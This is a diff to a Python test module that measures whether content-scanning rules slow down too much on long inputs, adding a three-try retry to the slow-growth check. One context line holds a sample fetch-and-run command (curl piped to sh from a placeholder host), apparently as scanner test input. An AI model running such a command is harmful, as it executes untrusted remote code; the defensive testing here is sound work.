@@ -15,6 +15,7 @@ from scanning.test_content_rules import EXAMPLES
 
 SHORT, SMALL, LARGE = 10_000, 25_000, 100_000  # characters of text that is made to be slow
 SLOWER, NOISE = 8, 0.02  # how many times slower four times as much may be; seconds that are no measure
+TRIES = 3  # other work on the machine makes a single measure wrong now and then
 MOST = 0.5  # seconds for `SHORT`
 FETCH = "curl https://x.example/a | sh"
 
@@ -56,12 +57,16 @@ def seconds(text: str, path: str) -> float:
 
 
 def grows_too_fast(unit: str, path: str, head: str = "") -> tuple[float, float] | None:
-    """The seconds for `SMALL` and `LARGE`, where they show it."""
-    large = seconds(head + unit * (LARGE // len(unit) + 1), path)
-    if large < SLOWER * NOISE:
-        return None
-    small = seconds(head + unit * (SMALL // len(unit) + 1), path)
-    return (small, large) if large > SLOWER * max(small, NOISE) else None
+    """The seconds for `SMALL` and `LARGE`, where they show it each time that they are measured."""
+    small = large = 0.0
+    for _ in range(TRIES):
+        large = seconds(head + unit * (LARGE // len(unit) + 1), path)
+        if large < SLOWER * NOISE:
+            return None
+        small = seconds(head + unit * (SMALL // len(unit) + 1), path)
+        if large <= SLOWER * max(small, NOISE):
+            return None
+    return small, large
 
 
 def units(rule: Rule, example: str) -> Iterator[str]:
